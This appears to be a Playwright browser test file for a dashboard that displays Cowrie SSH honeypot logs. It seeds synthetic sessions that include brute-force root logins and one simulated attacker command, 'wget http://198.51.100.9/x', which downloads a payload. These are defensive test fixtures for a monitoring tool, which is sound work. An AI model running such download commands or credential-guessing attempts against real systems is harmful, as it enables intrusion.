// The pages that look through everything: long lists, facets, the timeline's brush, what belongs together, in a real browser.
/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { buildPages, launch, open, noBrowser as skip, watch } from '../../test/web/browser.ts';
import { Dashboard, sessionEvents, stopAll } from '../../test/web/dashboard.ts';

const SESSIONS = 2_400;
const MINUTE = 60_000;
/** A Friday, 12:00 UTC. */
const NOON = Date.UTC(2026, 7, 21, 12);
const LIST = ['a1', 'b2', 'c3', 'd4', 'e5'];
const HASH = 'c'.repeat(64);

let browser: Browser;
let pages: Awaited<ReturnType<typeof buildPages>> | undefined;
let dashboard: Dashboard;

before(async () => {
  if (skip) return;
  pages = await buildPages();
  dashboard = await Dashboard.start({
    pages: pages.directory,
    locate: () => ({ country: 'JP', asn: 64_500, asName: 'Example Net' }),
  });
  const login = (password: string, eventid = 'cowrie.login.failed') => ({ eventid, username: 'root', password });
  // One a minute, over forty hours.
  for (let i = 0; i < SESSIONS; i++)
    dashboard.append(
      sessionEvents(
        NOON + i * MINUTE,
        [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.client.version', version: i % 3 === 0 ? 'SSH-2.0-Go' : 'SSH-2.0-libssh2' },
          login(`p${i % 40}`),
          { eventid: 'cowrie.session.closed', duration: 2 },
        ],
        `203.0.113.${i % 20}`,
      ),
    );
  for (const [address, words] of [
    ['198.51.100.1', LIST],
    ['198.51.100.2', LIST.slice(0, 3)],
  ] as const)
    dashboard.append(
      sessionEvents(
        NOON - 60 * MINUTE,
        words.map((word) => login(word)),
        address,
      ),
    );
  dashboard.append(
    sessionEvents(
      NOON - 120 * MINUTE,
      [
        { eventid: 'cowrie.session.connect' },
        login('in', 'cowrie.login.success'),
        { eventid: 'cowrie.command.input', input: 'wget http://198.51.100.9/x' },
        { eventid: 'cowrie.session.file_download', url: 'http://198.51.100.9/x', shasum: HASH, outfile: 'x' },
        ...Array.from({ length: 900 }, (_, i) => ({ eventid: 'cowrie.command.input', input: `echo ${i}` })),
        { eventid: 'cowrie.session.closed', duration: 903 },
      ],
      '198.51.100.7',
    ),
  );
  dashboard.read();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await stopAll();
  pages?.remove();
});

const go = (page: Page, path: string) => open(page, dashboard.url(path));
const rows = (page: Page) => page.locator('table.sessions tbody tr');
const english = { settings: { language: 'en', zone: 'utc' } };

test('thousands of sessions scroll with few rows drawn; j, k and Enter walk them; Back returns to the place', {
  skip,
}, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  await go(page, '/sessions');
  await rows(page).first().waitFor();
  await page.getByText(`${(SESSIONS + 3).toLocaleString('en-GB')} sessions`).waitFor();
  const last = page.locator('tr[aria-rowindex="2404"]');
  for (let i = 0; i < 100 && (await last.count()) === 0; i++) {
    assert.ok((await rows(page).count()) < 80);
    await page.evaluate('scrollTo(0, document.documentElement.scrollHeight)');
    await page.waitForTimeout(50);
  }
  await last.locator('a').waitFor();
  assert.equal(await page.locator('table.sessions').getAttribute('aria-rowcount'), String(SESSIONS + 4));
  await page.evaluate('scrollTo(0, 30_000)');
  await page.locator('tr[aria-rowindex="560"] a').waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('k');
  const focused = () =>
    page.evaluate<string | undefined>(`document.activeElement.closest('tr')?.getAttribute('aria-rowindex')`);
  const place = Number(await focused());
  assert.ok(place > 500 && place < 700, `row ${place}`);
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/sessions\/\d+$/);
  await page.getByRole('heading', { name: 'Timeline' }).waitFor();
  await page.goBack();
  const returned = page.locator(`tr[aria-rowindex="${place}"] a`);
  await returned.waitFor();
  const { y } = (await returned.boundingBox())!;
  assert.ok(y > 0 && y < 900, `the row is at ${y}`);
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('facets narrow folded sessions too, and an hour of the week leads to its sessions', { skip }, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  await go(page, '/sessions?view=folded');
  await page.locator('.facets').getByRole('link', { name: 'SSH-2.0-Go' }).click();
  await page.waitForURL(/view=folded&client=SSH-2.0-Go/);
  await page.getByText(/^800 sessions that ended, folded into 1 behaviour$/).waitFor();
  await page.locator('.fold-count').click();
  await page.waitForURL(/behaviour=/);
  await page.getByText('800 sessions', { exact: true }).waitFor();
  await go(page, `/explore?from=${NOON}&to=${NOON + 90 * MINUTE}`);
  await page.locator('.heat').getByRole('link', { name: 'Fri 13:00: 30' }).click();
  await page.waitForURL(/weekday=4&hour=13&zone=UTC/);
  await page.getByText('30 sessions', { exact: true }).waitFor();
  await page.getByRole('link', { name: /^Remove Fri 13:00 – 14:00/ }).click();
  await page.getByText('90 sessions', { exact: true }).waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('Explore narrows by words of commands and by facets; the brush chooses a range by mouse, touch and keys', {
  skip,
}, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  const range = `from=${NOON - 24 * 60 * MINUTE}&to=${NOON + 48 * 60 * MINUTE}`;
  await go(page, `/explore?${range}`);
  const chart = page.locator('.bars-frame').first();
  const box = (await chart.boundingBox())!;
  await page.mouse.move(box.x + box.width * 0.4, box.y + 50);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.6, box.y + 50, { steps: 4 });
  await page.mouse.up();
  await page.waitForURL((url) => !url.search.includes(range) && url.searchParams.has('from'));
  await page.goBack();
  await page.waitForURL((url) => url.search.includes(range));
  await page.getByRole('searchbox').fill('wget');
  await page.getByRole('button', { name: 'Search' }).click();
  await page.waitForURL(/command=wget/);
  await page.getByRole('link', { name: '1 session →' }).waitFor();
  const list = (name: string) =>
    page.locator('.toplist', { has: page.getByRole('heading', { name, exact: true }) }).getByRole('link');
  assert.match((await list('URLs').first().textContent()) ?? '', /198\.51\.100\.9/);
  const slider = page.getByRole('slider').first();
  await slider.focus();
  await slider.press('ArrowLeft');
  await slider.press('Enter');
  await page.waitForURL((url) => !url.search.includes(range) && url.searchParams.get('command') === 'wget');
  await page.goBack();
  await list('Files (SHA-256)').first().click();
  await page.waitForURL(new RegExp(`/samples/${HASH}`));
  await page.getByText('The sessions that brought it').waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();

  const touch = await watch(browser, dashboard, { ...english, width: 360, context: { hasTouch: true } });
  await go(touch.page, `/explore?${range}`);
  const narrow = (await touch.page.locator('.bars-frame').first().boundingBox())!;
  const session = await touch.page.context().newCDPSession(touch.page);
  const at = (part: number) => [{ x: narrow.x + narrow.width * part, y: narrow.y + 60 }];
  await session.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: at(0.4) });
  for (const part of [0.5, 0.6, 0.7])
    await session.send('Input.dispatchTouchEvent', { type: 'touchMove', touchPoints: at(part) });
  await session.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] });
  await touch.page.waitForURL((url) => !url.search.includes(range));
  await touch.page.context().close();
});

test('attackers, what belongs to one of them, and wordlists in common', { skip }, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  await go(page, '/attackers?range=all&kind=asn');
  const row = page.locator('table.attackers tbody tr');
  assert.equal(await row.count(), 1);
  assert.match((await row.locator('.day-line title').textContent()) ?? '', /^On \d of \d+ days, most on/);
  await row.getByRole('link').first().click();
  await page.waitForURL(/\/attackers\/asn\/AS64500/);
  await page.getByText('Example Net').first().waitFor();
  await page.getByRole('link', { name: `${(SESSIONS + 3).toLocaleString('en-GB')} sessions →` }).waitFor();
  const addresses = page.locator('.toplist', { has: page.getByRole('heading', { name: 'Addresses' }) });
  await addresses.getByRole('link', { name: '203.0.113.0' }).click();
  await page.waitForURL(/\/addresses\/203.0.113.0/);
  await page.getByRole('link', { name: '120 sessions →' }).waitFor();
  await page.getByRole('link', { name: /^Who tried the same list/ }).click();
  await page.waitForURL(/show=wordlists/);
  const family = page.locator('.wordlist', { hasText: '5 pairs, tried by 2 addresses' });
  await family.waitFor();
  assert.deepEqual(await family.locator('tbody tr td:nth-child(3)').allTextContents(), [
    'all of it, in the same order',
    'its first 3 of 5',
  ]);
  assert.deepEqual(
    await family.locator('.tries-plain a').allTextContents(),
    LIST.map((word) => `root / ${word}`),
  );
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('a session of many events draws a part at a time, tells events apart by kind, and leads to its like', {
  skip,
}, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  await go(page, '/sessions?outcome=download');
  await rows(page).first().locator('a').click();
  await page.getByRole('heading', { name: 'Timeline' }).waitFor();
  const events = page.locator('.events > li');
  assert.equal(await events.count(), 200);
  await page.getByRole('button', { name: /^File kept 1$/ }).click();
  assert.equal(await events.count(), 1);
  await events.first().locator('summary').click();
  await events.getByText('shasum').waitFor();
  await page.getByRole('button', { name: /^All 905$/ }).click();
  const later = page.locator('.slice').last().getByRole('button', { name: /Later/ });
  for (let i = 0; i < 4; i++) await later.click();
  await page.getByText('801–905 of 905').first().waitFor();
  assert.equal(await later.isDisabled(), true);
  await page.getByRole('link', { name: /^With this file/ }).click();
  await page.waitForURL(/hash=c{64}/);
  await page.goBack();
  await page.getByRole('link', { name: /^Sessions like this/ }).click();
  await page.getByText('1 session', { exact: true }).waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();
});

test('samples are chosen by type and origin', { skip }, async () => {
  const { page, trouble } = await watch(browser, dashboard, english);
  await go(page, '/samples');
  await page.getByRole('combobox', { name: 'Type' }).selectOption('gone');
  await page.getByRole('searchbox', { name: 'Origin' }).fill('198.51.100.9');
  await page.getByRole('button', { name: 'Filter' }).click();
  await page.waitForURL(/kind=gone&origin=198.51.100.9/);
  assert.equal(await page.locator('.samples > li').count(), 1);
  await page.getByRole('searchbox', { name: 'Origin' }).fill('elsewhere');
  await page.getByRole('button', { name: 'Filter' }).click();
  await page.getByText('No sample matches.').waitFor();
  assert.deepEqual(trouble, []);
  await page.context().close();
});
